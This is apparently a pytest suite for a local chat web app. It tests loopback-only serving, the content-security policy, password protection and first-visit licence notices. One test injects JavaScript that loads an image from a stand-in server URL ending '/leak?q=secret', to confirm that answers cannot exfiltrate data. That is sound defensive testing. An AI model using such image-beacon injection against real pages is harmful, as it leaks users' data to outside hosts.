"""The chat page's basics: the address, the policy, the interface for programs, the first visit."""

import http.server
import json
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from typer.testing import CliRunner

from m1local import home
from m1local.errors import M1Error
from m1local_app import notices
from m1local_app.cli import cli
from tests.conftest import write_checkpoint
from tests.web_page import ANSWER_TOKENS, LABEL, MARKS, PATIENCE_SECONDS, Served, SlowEngine, Window

pytestmark = MARKS


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Served to somebody who never was here: the notices are not accepted yet."""
    pytest.importorskip("gradio", reason="the page needs gradio")
    folder = tmp_path_factory.mktemp("web")
    served = Served(SlowEngine(folder / "model"), folder)
    yield served
    served.close()


@pytest.fixture
def accepted(page: Served, m1_home: Path) -> None:
    """Of somebody who was here before."""
    notices.accept(page.desk.checkpoint)


def client(page: Served) -> Any:
    from gradio_client import Client

    return Client(page.url, verbose=False)


def test_the_page_is_on_loopback_only(page: Served) -> None:
    assert urlsplit(page.url).hostname == "127.0.0.1"
    assert page.share_url is None
    assert page.blocks.analytics_enabled is False


def test_a_program_is_not_answered_before_the_notices_are_accepted(
    page: Served, m1_home: Path
) -> None:
    before = len(page.model.passes)
    with pytest.raises(Exception, match="are not accepted yet"):
        client(page).predict("hello", api_name="/chat")
    assert len(page.model.passes) == before
    assert page.store.conversations() == []


def test_the_api_streams_and_cancelling_stops_the_model(page: Served, accepted: None) -> None:
    job = client(page).submit("hello", api_name="/chat")
    until = time.monotonic() + PATIENCE_SECONDS
    while len(job.outputs()) < 5:
        assert time.monotonic() < until, "nothing was streamed"
        time.sleep(0.05)
    parts = [str(part) for part in job.outputs()]
    assert parts[-1].startswith(parts[-2])
    job.cancel()
    page.model.quiet()
    assert len(page.model.passes) < ANSWER_TOKENS
    kept = page.store.latest()
    assert kept is not None
    assert page.store.path(kept.id)[-1].finish == "cancelled"


def test_a_prompt_that_is_too_long_is_one_clear_error(page: Served, accepted: None) -> None:
    with pytest.raises(Exception, match="The prompt has"):
        client(page).predict("hello " * 9000, api_name="/chat")


def test_only_the_chat_is_an_interface_for_programs(page: Served) -> None:
    endpoints = client(page).view_api(return_format="dict", print_info=False)
    assert set(endpoints["named_endpoints"]) == {"/chat"}


def test_the_page_may_show_nothing_of_another_server(page: Served) -> None:
    with urllib.request.urlopen(page.url) as response:
        policy = response.headers["content-security-policy"]
    assert "img-src 'self'" in policy
    assert "connect-src 'self'" in policy


def test_a_taken_port_is_one_line(page: Served) -> None:
    import gradio as gr

    from m1local_app.web import serving

    with gr.Blocks(analytics_enabled=False) as another, pytest.raises(M1Error, match="is taken"):
        serving.launch(another, port=page.port, browser=False)


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        (["--host", "0.0.0.0"], "add --auth"),
        (["--host", "192.168.1.2"], "add --auth"),
        (["--host", "example"], "add --auth"),
        (["--auth", "me"], "USER:PASSWORD"),
        (["--host", "0.0.0.0", "--auth", ":x"], "USER:PASSWORD"),
    ],
)
def test_others_come_in_by_a_password_only(arguments: list[str], complaint: str) -> None:
    refused = CliRunner().invoke(cli, ["ui", *arguments])
    assert refused.exit_code == 2
    assert complaint in refused.stderr


def test_a_page_with_a_password_shows_nothing_without_it(tmp_path: Path) -> None:
    import gradio as gr

    from m1local_app.web import serving

    with gr.Blocks(analytics_enabled=False) as blocks:
        gr.Textbox("secret words")
    _, url, _ = serving.launch(blocks, port=0, browser=False, auth=("me", "open sesame"))
    try:
        with urllib.request.urlopen(url) as response:
            assert "secret words" not in response.read().decode()
        with pytest.raises(urllib.error.HTTPError, match="401"):
            urllib.request.urlopen(f"{url}config")
    finally:
        blocks.close()


def test_the_first_visit_shows_the_notices_and_records_that_they_were_accepted(
    page: Served, opened: Window, m1_home: Path
) -> None:
    opened.browser.get(page.url)
    opened.until(lambda: opened.shown("#welcome button"), "no notice came")
    text = opened.texts("#welcome")[0]
    assert "no medical advice" in text
    assert LABEL in text
    assert opened.texts("#welcome summary") == ["The licence as it came with the model"]
    assert not opened.shown("#shell")
    opened.click("#welcome > button, #welcome button.primary")
    opened.until(lambda: opened.shown("#box textarea"), "the page never came")
    assert notices.is_accepted(page.desk.checkpoint)
    assert any(name.startswith("accepted") for name in json.loads(home.licences().read_text()))
    opened.ask("hello", answers=1)
    opened.stop()
    opened.browser.refresh()  # accepted once is accepted
    opened.until(lambda: opened.shown("#box textarea"), "the page never came back")
    assert not opened.shown("#welcome")
    opened.assert_private_and_quiet()


def test_an_acceptance_is_of_one_model(m1_home: Path) -> None:
    assert not notices.is_accepted("one")
    notices.accept("one")
    assert notices.is_accepted("one")
    assert not notices.is_accepted("another")


def test_the_page_cannot_share_a_conversation(opened: Window) -> None:
    assert not opened.shown("button[aria-label*='hare'], button[title*='hare']")


def test_an_image_in_an_answer_is_not_fetched_from_elsewhere(page: Served, opened: Window) -> None:
    asked: list[str] = []

    class Other(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        address = f"http://127.0.0.1:{other.server_port}/leak?q=secret"
        script = "const i = new Image(); i.src = arguments[0]; document.body.append(i)"
        opened.js(script, address)
        time.sleep(2)
        other.shutdown()
        thread.join()
    assert asked == []


def test_a_base_model_continues_what_is_typed(tmp_path: Path, m1_home: Path) -> None:
    write_checkpoint(tmp_path / "model", endless=True)
    model = SlowEngine(tmp_path / "model")
    (model.folder / "generation_config.json").write_text('{"temperature": 1.0}')
    from m1local.engine import Engine

    model.engine = Engine.load(model.folder)
    assert not model.engine.generation.is_chat
    served = Served(model, tmp_path, tokens=8)
    notices.accept(served.desk.checkpoint)
    try:
        assert client(served).predict("The heart", api_name="/chat")
        assert served.store.conversations() == []
    finally:
        served.close()
